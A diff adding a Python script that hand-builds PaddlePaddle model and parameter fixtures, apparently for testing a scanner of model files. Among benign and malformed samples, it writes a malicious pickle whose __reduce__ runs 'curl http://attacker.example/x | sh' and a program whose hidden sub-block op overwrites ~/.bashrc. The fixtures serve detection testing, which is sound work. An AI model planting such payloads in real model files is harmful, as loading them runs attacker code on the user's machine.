@@ -1,0 +1,173 @@
+#!/usr/bin/env python3
+"""Fixtures for PaddlePaddle programs and parameters and Flax msgpack checkpoints.
+
+None of these frameworks is installed here, so the files are built by hand from the public
+specifications: Paddle's framework.proto (ProgramDesc/BlockDesc/OpDesc/VarDesc) encoded with a
+small protobuf writer, paddle.save's pickle of NumPy arrays, and flax.serialization's msgpack
+layout (ext code 1 = ndarray as msgpack [shape, dtype, bytes]).
+"""
+import io
+import os
+import pickle
+import struct
+
+import numpy as np
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+FIX = os.path.join(HERE, "..", "resources", "fixtures")
+
+
+def write(folder, name, data):
+    path = os.path.join(FIX, folder, name)
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "wb") as f:
+        f.write(data)
+
+
+# ---------------------------------------------------------------- protobuf
+def varint(v):
+    if v < 0:
+        v += 1 << 64
+    out = bytearray()
+    while True:
+        b = v & 0x7F
+        v >>= 7
+        if v:
+            out.append(b | 0x80)
+        else:
+            out.append(b)
+            return bytes(out)
+
+
+def f_varint(field, v):
+    return varint(field << 3) + varint(v)
+
+
+def f_bytes(field, b):
+    if isinstance(b, str):
+        b = b.encode()
+    return varint((field << 3) | 2) + varint(len(b)) + b
+
+
+# framework.proto: AttrType INT=0 FLOAT=1 STRING=2 INTS=3 ... BOOLEAN=6 ...
+def attr_str(name, s):
+    return f_bytes(1, name) + f_varint(2, 2) + f_bytes(5, s)
+
+
+def attr_int(name, i):
+    return f_bytes(1, name) + f_varint(2, 0) + f_varint(3, i)
+
+
+def op(type_, inputs=(), outputs=(), attrs=()):
+    msg = b""
+    for param, args in inputs:
+        msg += f_bytes(1, f_bytes(1, param) + b"".join(f_bytes(2, a) for a in args))
+    for param, args in outputs:
+        msg += f_bytes(2, f_bytes(1, param) + b"".join(f_bytes(2, a) for a in args))
+    msg += f_bytes(3, type_)
+    for a in attrs:
+        msg += f_bytes(4, a)
+    return msg
+
+
+# VarType.Type: LOD_TENSOR = 7, FP32 = 5, FEED_MINIBATCH = 9, FETCH_LIST = 10
+def var(name, persistable=False, dims=(1,), vtype=7):
+    tensor = f_varint(1, 5) + b"".join(f_varint(2, d) for d in dims)
+    lod = f_bytes(1, tensor)
+    vt = f_varint(1, vtype)
+    if vtype == 7:
+        vt += f_bytes(3, lod)
+    return f_bytes(1, name) + f_bytes(2, vt) + f_varint(3, 1 if persistable else 0)
+
+
+def block(idx, parent, vars_, ops_):
+    msg = f_varint(1, idx) + f_varint(2, parent)
+    msg += b"".join(f_bytes(3, v) for v in vars_)
+    msg += b"".join(f_bytes(4, o) for o in ops_)
+    return msg
+
+
+def program(blocks):
+    # version = 4 (Version { version = 1 }): Paddle 2.x writes 0
+    return b"".join(f_bytes(1, b) for b in blocks) + f_bytes(4, f_varint(1, 0))
+
+
+def linear_ops(extra=()):
+    ops_ = [
+        op("feed", [("X", ["feed"])], [("Out", ["x"])], [attr_int("col", 0)]),
+        op("matmul_v2", [("X", ["x"]), ("Y", ["linear_0.w_0"])], [("Out", ["linear_0.tmp_0"])]),
+        op(
+            "elementwise_add",
+            [("X", ["linear_0.tmp_0"]), ("Y", ["linear_0.b_0"])],
+            [("Out", ["linear_0.tmp_1"])],
+            [attr_int("axis", -1)],
+        ),
+        op("relu", [("X", ["linear_0.tmp_1"])], [("Out", ["relu_0.tmp_0"])]),
+    ]
+    ops_ += list(extra)
+    ops_.append(op("fetch", [("X", ["relu_0.tmp_0"])], [("Out", ["fetch"])], [attr_int("col", 0)]))
+    return ops_
+
+
+def linear_vars():
+    return [
+        var("feed", vtype=9),
+        var("fetch", vtype=10),
+        var("x", dims=(-1, 4)),
+        var("linear_0.w_0", True, (4, 3)),
+        var("linear_0.b_0", True, (3,)),
+        var("linear_0.tmp_0", dims=(-1, 3)),
+        var("linear_0.tmp_1", dims=(-1, 3)),
+        var("relu_0.tmp_0", dims=(-1, 3)),
+    ]
+
+
+def paddle():
+    write("paddle", "benign-linear.pdmodel", program([block(0, -1, linear_vars(), linear_ops())]))
+    py = op(
+        "py_func",
+        [("X", ["relu_0.tmp_0"])],
+        [("Out", ["relu_0.tmp_0"])],
+        [attr_int("forward_callable_id", 0), attr_int("backward_callable_id", -1)],
+    )
+    write("paddle", "malicious-py-func.pdmodel", program([block(0, -1, linear_vars(), linear_ops([py]))]))
+    save = op(
+        "save",
+        [("X", ["linear_0.w_0"])],
+        [],
+        [attr_str("file_path", "/home/user/.bashrc"), attr_int("overwrite", 1)],
+    )
+    # the save hides in a sub-block, as a conditional_block's body would hold it
+    write(
+        "paddle",
+        "malicious-save-in-subblock.pdmodel",
+        program([block(0, -1, linear_vars(), linear_ops()), block(1, 0, [], [save])]),
+    )
+    good = program([block(0, -1, linear_vars(), linear_ops())])
+    write("paddle", "malformed-truncated.pdmodel", good[: len(good) * 2 // 3])
+    # an operator whose length field claims more bytes than its block holds
+    bad_ops = linear_ops()
+    blk = f_varint(1, 0) + f_varint(2, -1) + b"".join(f_bytes(3, v) for v in linear_vars())
+    blk += varint((4 << 3) | 2) + varint(100000) + bad_ops[0]
+    write("paddle", "malformed-op-length.pdmodel", f_bytes(1, blk))
+
+    # paddle.save(layer.state_dict()) pickles {name: numpy array} (protocol 4 in Paddle 2.x)
+    rng = np.random.default_rng(7)
+    state = {
+        "linear_0.w_0": rng.standard_normal((4, 3)).astype(np.float32),
+        "linear_0.b_0": np.zeros(3, dtype=np.float32),
+        "StructuredToParameterName@@": {"linear_0.w_0": "linear_0.w_0", "linear_0.b_0": "linear_0.b_0"},
+    }
+    write("paddle", "benign-linear.pdparams", pickle.dumps(state, protocol=4))
+    opt = {"linear_0.w_0_moment1_0": np.zeros((4, 3), np.float32), "LR_Scheduler": {"last_epoch": 3, "last_lr": 0.001}}
+    write("paddle", "benign-adam.pdopt", pickle.dumps(opt, protocol=4))
+
+    class Evil:
+        def __reduce__(self):
+            return (os.system, ("curl http://attacker.example/x | sh",))
+
+    write("paddle", "malicious-reduce.pdparams", pickle.dumps({"linear_0.w_0": Evil()}, protocol=4))
+
+
+if __name__ == "__main__":
+    paddle()
